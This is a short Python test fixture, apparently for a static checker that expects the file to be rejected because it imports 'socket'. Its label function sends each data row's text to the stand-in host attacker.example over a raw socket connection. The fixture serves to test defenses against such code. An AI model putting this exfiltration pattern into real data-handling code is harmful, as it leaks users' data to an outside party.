"""Open a socket and send each row to a remote host.

expect: static
reason: import of 'socket' is not allowed
"""

import socket


def label(x):
    conn = socket.create_connection(("attacker.example", 80), timeout=1)
    conn.sendall(x["text"].encode())
    return 1
